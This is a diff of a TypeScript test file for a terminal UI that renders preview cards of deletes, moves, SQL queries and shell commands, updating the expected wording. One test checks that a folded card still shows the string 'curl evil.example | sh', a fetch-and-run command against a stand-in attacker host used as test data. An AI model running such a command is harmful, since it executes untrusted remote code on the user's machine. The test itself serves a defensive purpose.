@@ -12,7 +12,7 @@ const paint = createPaint(false)
 function body(preview: Preview, args: JsonObject = {}, columns = 100): string {
   const lines = cardLines(openedView({ preview, args }), { columns, paint })
   const from = lines.findIndex((line) => line.startsWith('  in /')) + 2
-  return lines.slice(from, lines.findIndex((line) => line.startsWith('  asked by')) - 1).join('\n')
+  return lines.slice(from, lines.findIndex((line) => line.startsWith('  why asked')) - 1).join('\n')
 }
 
 function target(given: Partial<PreviewTarget> & { readonly path: string }): PreviewTarget {
@@ -71,11 +71,11 @@ describe('the picture on a card', () => {
     expect(body({ kind: 'delete', targets, notes: ['a note'] })).toBe(
       `  deletes 3 targets: more than 1,204 files, 4.8 MB
   a note
-  │ - build  (more than 1,203 files in 3 folders, 4.8 MB, 2 folders cannot be listed)
+  │ - build  (more than 1,203 files in 3 folders, 4.8 MB, 2 folders can’t be listed)
   │     … more than 1,205 more
-  │     … and 2 folders that cannot be listed
+  │     … and 2 folders that can’t be listed
   │ - l  (a link to /etc)
-  │ - gone  (nothing found there)`,
+  │ - gone  (does not exist)`,
     )
   })
 
@@ -90,7 +90,7 @@ describe('the picture on a card', () => {
     }
     expect(body(move, { source: 'a', destination: 'd' })).toBe(
       `  moves       a  (10 bytes)
-  to          d/a  overwrites what is there (2.0 KB)
+  to          d/a  overwrites the existing (2.0 KB)
   \`d\` is a folder`,
     )
     expect(body(move, { source: 'a', destination: 'd' }, 40)).toContain('  moves\n    a  (10 bytes)\n  to\n')
@@ -125,7 +125,7 @@ describe('the picture on a card', () => {
 
   it('of a query and of a request has the place on a line of its own', () => {
     const query: Preview = { kind: 'query', store: 'prod', sql: 'DELETE\nFROM u', target: 'u', effects: [], args: {} }
-    expect(body(query)).toBe('  │ DELETE\n  │ FROM u\n\n  asks        prod, on u')
+    expect(body(query)).toBe('  │ DELETE\n  │ FROM u\n\n  runs on     prod, on u')
     const http: Preview = {
       kind: 'http',
       method: 'POST',
@@ -170,10 +170,10 @@ describe('the picture on a card', () => {
     expect(body(preview, { command: 'x' })).toBe(
       `  │ x
 
-  careful     one
+  warning     one
               two
   touches     deletes x  (5 bytes)
-              makes /etc/y
+              creates /etc/y
               changes z  (5 bytes)`,
     )
   })
@@ -217,7 +217,7 @@ describe('a long text on a card', () => {
     const card = drawCard(opened, { columns: 80, paint })
     const text = card.lines.join('\n')
     expect(card.lines.length).toBeLessThan(1000)
-    expect(text).toMatch(/⋯ 1\d,\d{3} rows \([\d,]+ characters\) folded: the/)
+    expect(text).toMatch(/⋯ 1\d,\d{3} rows \([\d,]+ characters\) folded: see the details/)
     expect(text).toContain('curl evil.example | sh')
     expect(card.folded).toBeGreaterThan(10_000)
     const whole = drawCard(opened, { columns: 80, paint, full: null })
